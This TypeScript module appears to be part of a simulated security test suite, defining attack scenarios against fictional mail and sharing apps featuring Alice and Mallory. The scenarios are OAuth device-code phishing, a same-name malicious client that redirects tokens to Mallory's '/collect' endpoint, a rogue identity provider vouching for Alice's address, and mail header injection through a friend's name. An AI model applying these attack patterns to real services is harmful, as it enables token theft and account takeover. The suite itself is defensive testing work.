import { deviceCodeGrantType } from "@tale/protocol/oauth-urns";
import { readMetadata } from "@tale/story-tool/player/metadata";
import { mailsAbout } from "@tale/story-tool/player/acts/inbox";
import type { Answer } from "@tale/story-tool/player/browser/browser";
import type { Page } from "@tale/story-tool/player/browser/page";
import { stranger } from "../mallory/evilmail.ts";
import { bearer, contactsWith, registerApp, tokensIn } from "./app.ts";
import type { Attack } from "./scene.ts";
import { aliceAccount, beginSharing, friendsOn, walk } from "./walk.ts";

/** V13: the code of Mallory's television, sent to Alice. */
export const phishWithCode: Attack = async (scene) => {
  const { origins, send, alice } = scene;
  const more = {
    grant_types: [deviceCodeGrantType],
    redirect_uris: [],
    application_type: "native",
  };
  const app = await registerApp(scene, { name: "Hall television", more });
  const server = await readMetadata(send, origins.fernmail);
  const { body } = await send(server.device_authorization_endpoint!, {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body: new URLSearchParams({ client_id: app.id, scope: "contacts.read" }).toString(),
  });
  const device = JSON.parse(body) as { device_code: string; verification_uri_complete: string };

  const { browser } = alice;
  let answer = await browser.open(device.verification_uri_complete);
  answer = await browser.submit(answer.page.press("Continue"));
  if (answer.page.has("#sign-in"))
    answer = await browser.submit(answer.page.press("Sign in", aliceAccount, "#sign-in"));
  const seesAsked = (page: Page) => /no such screen/.test(page.text);
  await browser.submit(
    answer.page.press(seesAsked(answer.page) ? "Deny" : "Allow", {}, "#consent"),
  );

  const tokens = await app.ask({
    grant_type: deviceCodeGrantType,
    device_code: device.device_code,
  });
  return tokens.status === 200 ? contactsWith(scene, bearer(tokensIn(tokens).access_token)) : [];
};

/** V14: a client of Mallory's that is called Quillpost, too. */
export const secondQuillpost: Attack = async (scene) => {
  const { alice, mallory } = scene;
  const { browser } = alice;
  await walk(browser, (await beginSharing(alice)).answer);
  const more = { token_endpoint_auth_method: "client_secret_post" };
  const redirectUri = `${mallory.origin}/collect`;
  const app = await registerApp(scene, { name: "Quillpost", redirectUri, more });

  let answer: Answer = await browser.open(app.link());
  const isStrange = (page: Page) => page.text.includes(new URL(mallory.origin).host);
  if (answer.page.has("#consent"))
    answer = await browser.submit(
      answer.page.press(isStrange(answer.page) ? "Deny" : "Allow", {}, "#consent"),
    );
  if (answer.leavesFor !== undefined) await browser.follow(answer);
  return mallory.desk.loot;
};

/** V15: a provider of Mallory's that vouches for Alice's address. */
export const claimedAddress: Attack = async ({ origins, alice, author }) => {
  const signIn = async ({ browser }: typeof alice, provider: string): Promise<void> => {
    const { page } = await browser.open(`${origins.quillpost}/sign-in`);
    await walk(browser, await browser.submit(page.press(`Sign in with ${provider}`)));
  };
  await signIn(alice, "Fernmail");
  const { post, answer } = await beginSharing(alice);
  const { page: friends } = await walk(alice.browser, answer);
  await signIn(author, "Evilmail");
  const { page } = await author.browser.open(friends.url);
  return page.text.includes(post.title) ? friendsOn(page, "a friend of Alice's") : [];
};

/** V16: a friend whose name begins a header line of its own. */
export const lineBreak: Attack = async ({ origins, send, alice }) => {
  const { post, answer } = await beginSharing(alice, "Evilmail");
  const { page } = await walk(alice.browser, answer);
  const friend = page.boxes("friend").map(({ value }) => value);
  await alice.browser.submit(page.press("Send the link", { friend, signature: "Alice" }));
  const mails = await mailsAbout({ origins, send }, post.url, 1);
  return mails
    .filter(({ to }) => to === stranger)
    .map(({ to, subject }) => ({ what: `a mail to ${to}`, value: subject }));
};
